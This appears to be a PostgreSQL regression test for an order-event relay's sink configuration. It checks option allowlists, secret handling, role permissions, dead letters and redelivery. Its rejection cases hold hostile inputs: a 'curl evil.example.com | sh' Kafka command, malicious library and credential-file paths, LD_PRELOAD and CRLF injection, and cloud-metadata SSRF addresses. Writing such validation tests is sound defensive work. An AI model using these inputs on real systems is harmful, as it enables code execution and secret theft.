-- sinks: where the relay delivers, configured as data.  Since 0.3.0 the
-- relay follows the committed row changes of ordersync.sink, ordersync.route
-- and ordersync.redelivery, never a logical message (which anyone could
-- forge); secrets never stored; options are an allowlist per sink type;
-- dead letters and redelivery
SELECT 'init' FROM pg_create_logical_replication_slot('regress_sinks', 'wal2json');
\set VERBOSITY default
\set SHOW_CONTEXT never

-- what the relay reads: the row changes of the three tables, without the
-- columns that vary from run to run, and every ordersync message (none)
CREATE FUNCTION slot_config(slot name) RETURNS TABLE (action text, tbl text, row_data jsonb)
LANGUAGE sql AS $$
	SELECT c->>'action', coalesce(c->>'table', c->>'prefix'),
		   CASE WHEN c->>'action' = 'M' THEN (c->>'content')::jsonb - 'data'
				ELSE (SELECT jsonb_object_agg(x->>'name', x->'value')
						FROM jsonb_array_elements(coalesce(c->'columns', c->'identity')) x
					   WHERE x->>'name' NOT IN ('id', 'created_at', 'requested_at', 'dead_letter_id')) END
	FROM pg_logical_slot_get_changes(slot, NULL, NULL,
		'format-version', '2', 'add-msg-prefixes', 'ordersync',
		'add-tables', 'ordersync.sink,ordersync.route,ordersync.redelivery') g,
		 LATERAL (SELECT g.data::jsonb AS c) m
	WHERE c->>'action' NOT IN ('B', 'C')
$$;

SELECT ordersync.add_sink('warehouse', 'https://wms.example.com/hooks/orders', '{"secret_env": "WMS_SECRET", "max_attempts": 5}');
SELECT ordersync.add_sink('payments', 'kafka://k1:9092,k2:9092/orders', '{"kafka": {"security.protocol": "sasl_ssl", "sasl.mechanism": "SCRAM-SHA-512", "linger.ms": 5}, "password_file": "/etc/ordersync/kafka.password"}');
SELECT ordersync.add_route('warehouse', 'order.*');
SELECT ordersync.add_route('warehouse', 'inventory.low_stock');
SELECT ordersync.add_route('payments', 'order.paid');
SELECT ordersync.add_route('payments', 'order.paid');	-- already there: false, no row change
SELECT * FROM ordersync.route ORDER BY 1, 2;

-- each change is a committed row change, in order; no relay.config message
SELECT * FROM slot_config('regress_sinks');
SELECT ordersync.relay_config();

-- bad input: own SQLSTATE, nothing changes
SELECT ordersync.add_sink('Bad Name', 'https://x.example.com/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('files', 'file:/tmp/events.jsonl');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('rmq', 'amqp://ordersync:hunter2@mq:5672/%2f?exchange=orders');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"secret": "hunter2"}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"retries": 3}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"sasl.password": "hunter2"}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"acks": "1"}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('warehouse', 'https://other.example.com/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '[]');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_route('nosuch', 'order.*');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_route('warehouse', 'order.*.paid');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.drop_sink('nosuch');
\echo :LAST_ERROR_SQLSTATE

-- options: an allowlist per scheme, with types and values
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"password_env": "PW"}');	-- not for webhooks
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"secret_env": "S"}');	-- not for kafka
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('mq', 'amqps://u@mq/%2f?exchange=x', '{"kafka": {}}');	-- not for amqp
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"max_attempts": "5"}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"timeout_ms": 2.5}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"max_in_flight": 0}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"drop_personal_data": "true"}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"secret_env": 7}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"secret_file": ""}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"secret_env": "LD_PRELOAD=/tmp/x.so"}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"secret_file": "etc/secret"}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', '{"ca_file": "/etc/ssl/../../root/.ssh/id_rsa"}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', jsonb_build_object('secret_file', E'/etc/x\nY'));
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('mq', 'amqp://u@mq/%2f?exchange=x', '{"ca_file": "/etc/mq/ca.pem"}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('mq', 'amqps://u@mq/%2f?exchange=x', '{"cert_file": "/etc/mq/client.pem"}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('mq', 'amqps://u@mq/%2f?exchange=x', '{"declare_exchange": "x-delayed-message"}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('mq', 'amqps://u@mq/%2f?exchange=x', '{"heartbeat_seconds": 7200}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/', jsonb_build_object('secret_env', 'S', 'ca_file', '/' || repeat('x', 4100)));
\echo :LAST_ERROR_SQLSTATE

-- librdkafka properties: an allowlist; nothing that runs commands, loads
-- libraries, reads files or gives up the delivery guarantees
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"sasl.kerberos.kinit.cmd": "curl evil.example.com | sh"}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"plugin.library.paths": "/tmp/evil.so"}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"ssl.ca.location": "/etc/shadow"}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"bootstrap.servers": "evil.example.com:9092"}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"message.timeout.ms": 1}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"transactional.id": "x"}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"partitioner": "random"}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"sasl.mechanism": "GSSAPI"}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"sasl.mechanisms": "OAUTHBEARER"}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"security.protocol": "sasl_ssl"}}');	-- GSSAPI by default
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"client.id": ""}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"security.protocol": "ssl_whatever"}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"enable.idempotence": false}}');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1/t', '{"kafka": {"linger.ms": {"a": 1}}}');
\echo :LAST_ERROR_SQLSTATE

-- the uri: no secrets in the query, no link-local, unspecified or multicast
-- address, no control characters or spaces
SELECT ordersync.add_sink('hook', 'https://x.example.com/hook?access_token=abc');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/hook?shop=1&API_KEY=abc');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/hook?sig%6Eature=abc');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/hook?x-api-key=abc');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'http://169.254.169.254/latest/meta-data/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'http://2852039166/latest/meta-data/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'http://0xa9.254.169.254/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'http://%31%36%39.254.169.254/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://0.0.0.0:8080/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://255.255.255.255/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('k', 'kafka://k1:9092,224.0.0.1:9092/t');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://[fe80::1]/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://[::]/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://[ff02::1]/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://[::ffff:169.254.169.254]/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://[fe80::1%25eth0]/');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/a b');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', E'https://x.example.com/\r\nX-Injected: 1');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', E'https://x.example.com/\u202Egnp.exe');
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.add_sink('hook', 'https://x.example.com/' || repeat('a', 2048));
\echo :LAST_ERROR_SQLSTATE
SELECT count(*) AS sinks FROM ordersync.sink;
SELECT * FROM slot_config('regress_sinks');

-- accepted with a warning: ordersyncd refuses these without --allow-insecure-sinks
SELECT ordersync.add_sink('plain-hook', 'http://hooks.example.com/orders');
SELECT ordersync.add_sink('plain-kafka', 'kafka://k1:9092/orders');
SELECT ordersync.add_sink('plain-mq', 'amqp://ordersync@mq/%2f?exchange=orders', '{"password_env": "MQ_PASSWORD"}');
SELECT ordersync.add_sink('no-verify', 'amqps://ordersync@mq/%2f?exchange=orders', '{"verify_peer": false}');
SELECT ordersync.add_sink('no-hostname', 'kafka://k1:9093/orders', '{"kafka": {"security.protocol": "ssl", "ssl.endpoint.identification.algorithm": "none"}}');
SELECT ordersync.add_sink('no-ca', 'kafka://k1:9093/orders', '{"kafka": {"security.protocol": "ssl", "enable.ssl.certificate.verification": "false"}}');
-- ... and without a warning: no personal data, or this host only
SELECT ordersync.add_sink('mq-inventory', 'amqp://ordersync@mq/%2f?exchange=inventory', '{"password_env": "MQ_PASSWORD", "drop_personal_data": true}');
SELECT ordersync.add_sink('stock-hook', 'http://hooks.example.com/stock', '{"drop_personal_data": true}');
SELECT ordersync.add_sink('sasl-kafka', 'kafka://ordersync@k1:9093,k2:9093/orders',
	'{"password_env": "KAFKA_PASSWORD", "ca_file": "/etc/ordersync/ca.pem", "kafka": {"security.protocol": "SASL_SSL", "sasl.mechanisms": "SCRAM-SHA-256", "acks": "all", "enable.idempotence": true, "compression.type": "zstd", "socket.keepalive.enable": true}}');
SELECT ordersync.add_sink('local-hook', 'http://127.0.0.1:8080/orders');
SELECT ordersync.add_sink('local-hook6', 'http://[::1]:8080/orders');
SELECT ordersync.add_sink('local-kafka', 'kafka://localhost:9092,127.0.0.2:9092/orders');
SELECT ordersync.add_sink('tls-mq', 'amqps://ordersync@mq:5671/%2f?exchange=orders',
	'{"password_file": "/etc/ordersync/mq.password", "ca_file": "/etc/ordersync/ca.pem", "cert_file": "/etc/ordersync/client.pem", "key_file": "/etc/ordersync/client.key", "verify_peer": true, "declare_exchange": "topic", "heartbeat_seconds": 30}');
SELECT name, uri FROM ordersync.sink ORDER BY name;
DO $$
BEGIN
	PERFORM ordersync.drop_sink(s.name) FROM ordersync.sink s WHERE s.name NOT IN ('warehouse', 'payments');
END $$;
SELECT count(*) AS changes FROM slot_config('regress_sinks');

-- the size guard holds for direct writes too (rows never TOASTed out of line)
\set VERBOSITY terse
INSERT INTO ordersync.sink (name, uri) VALUES ('big', 'https://x.example.com/' || repeat('a', 2048));
\echo :LAST_ERROR_SQLSTATE
INSERT INTO ordersync.sink (name, uri, options) VALUES ('big', 'https://x.example.com/', jsonb_build_object('x', repeat('a', 4096)));
\echo :LAST_ERROR_SQLSTATE
\set VERBOSITY default
SELECT attname, attstorage FROM pg_attribute WHERE attrelid = 'ordersync.sink'::regclass AND attname IN ('uri', 'options') ORDER BY 1;

-- drop_route, drop_sink (its routes go with it)
SELECT ordersync.drop_route('warehouse', 'inventory.low_stock');
SELECT ordersync.drop_route('warehouse', 'inventory.low_stock');
SELECT ordersync.drop_sink('payments');
SELECT * FROM ordersync.route ORDER BY 1, 2;
SELECT * FROM slot_config('regress_sinks');

-- a rolled back change tells the relay nothing
BEGIN;
SELECT ordersync.add_route('warehouse', '*');
ROLLBACK;
SELECT count(*) AS changes FROM slot_config('regress_sinks');

-- dead letters are written by the relay; redeliver asks for one again with
-- a row in ordersync.redelivery (the event, the sink, who asked)
SELECT ordersync.record_dead_letter('warehouse',
	'{"specversion": "1.0", "id": "0/1A2B3C/1", "type": "ordersync.order.paid", "subject": "order/7", "data": {"order_id": 7}}',
	'HTTP 400 from https://wms.example.com/hooks/orders: unknown order', 3) AS dl \gset
SELECT sink, event_id, type, subject, error, attempts, redelivered_at IS NULL AS waiting FROM ordersync.dead_letter;
SELECT ordersync.redeliver(:dl);
SELECT dead_letter_id = :dl AS same_id, sink, event->>'id' AS event_id, event->>'type' AS type,
	   requested_by = session_user AS by_caller, requested_at <= now() AS at
FROM ordersync.redelivery;
SELECT action, tbl, row_data->>'sink' AS sink, (row_data->>'event')::jsonb->>'id' AS event_id,
	   row_data->>'requested_by' = session_user AS by_caller
FROM slot_config('regress_sinks');
SELECT redeliveries, redelivered_at IS NOT NULL AS redelivered FROM ordersync.dead_letter;
SELECT ordersync.redeliver(-1);
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.record_dead_letter('gone', '{"id": "0/1/1", "type": "ordersync.order.paid", "subject": "order/8"}', 'x', 1) AS dl2 \gset
SELECT ordersync.redeliver(:dl2);
\echo :LAST_ERROR_SQLSTATE
SELECT count(*) AS redeliveries FROM ordersync.redelivery;

-- record_dead_letter keeps a short error and only events that look like one
SELECT ordersync.record_dead_letter('warehouse', '{"id": "0/2/1", "type": "ordersync.order.paid", "subject": "order/9"}',
	repeat('HTTP 500 ', 100), 25) AS dl3 \gset
SELECT length(error) AS error_length, left(error, 18) AS error FROM ordersync.dead_letter WHERE id = :dl3;
SELECT ordersync.record_dead_letter('warehouse', '{"id": 17, "type": "ordersync.order.paid", "subject": "order/9"}', 'x', 1);
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.record_dead_letter('warehouse', '{"id": "0/2/2", "type": "ordersync.order.paid"}', 'x', 1);
\echo :LAST_ERROR_SQLSTATE
SELECT ordersync.record_dead_letter('warehouse', '"an event"', 'x', 1);
\echo :LAST_ERROR_SQLSTATE
SELECT count(*) AS dead_letters FROM ordersync.dead_letter;

-- the application role may not touch sinks, dead letters or redeliveries;
-- the admin reads them but writes neither dead letters nor redeliveries
SET ROLE ordersync_app;
SELECT ordersync.add_sink('evil', 'https://evil.example.com/');
\echo :LAST_ERROR_SQLSTATE
SELECT count(*) FROM ordersync.dead_letter;
\echo :LAST_ERROR_SQLSTATE
SELECT count(*) FROM ordersync.redelivery;
\echo :LAST_ERROR_SQLSTATE
SET ROLE ordersync_admin;
SELECT count(*) AS redeliveries FROM ordersync.redelivery;
SELECT ordersync.record_dead_letter('warehouse', '{"id": "0/3/1", "type": "ordersync.order.paid", "subject": "order/1"}', 'forged', 1);
\echo :LAST_ERROR_SQLSTATE
INSERT INTO ordersync.redelivery (dead_letter_id, sink, event) VALUES (1, 'warehouse', '{}');
\echo :LAST_ERROR_SQLSTATE
SELECT pg_logical_emit_message(true, 'ordersync', '{"type": "relay.config", "subject": "relay/config", "data": {}}');
\echo :LAST_ERROR_SQLSTATE
RESET ROLE;

SELECT ordersync.drop_sink('warehouse');
SELECT count(*) AS messages FROM slot_config('regress_sinks') WHERE action = 'M';
SELECT 'dropped' FROM pg_drop_replication_slot('regress_sinks');

-- NATS JetStream sinks (0.4.0): one server and a subject prefix of plain
-- tokens, their own option keys, TLS files only with nats+tls://
SELECT ordersync.add_sink('js', 'nats://nats.example.com:4222/orders.*');
SELECT ordersync.add_sink('js', 'nats://n1:4222,n2:4222/orders');
SELECT ordersync.add_sink('js', 'nats://nats.example.com/orders', '{"verify_peer": false}');
SELECT ordersync.add_sink('js', 'nats://nats.example.com/orders', '{"ca_file": "/etc/ordersync/ca.pem"}');
SELECT ordersync.add_sink('js', 'nats+tls://nats.example.com/orders', '{"token": "hunter2"}');
SELECT ordersync.add_sink('js', 'nats+tls://nats.example.com/orders', '{"stream": "A.B"}');
SELECT ordersync.add_sink('js', 'nats+tls://nats.example.com/orders', '{"token_env": "T", "password_env": "P"}');
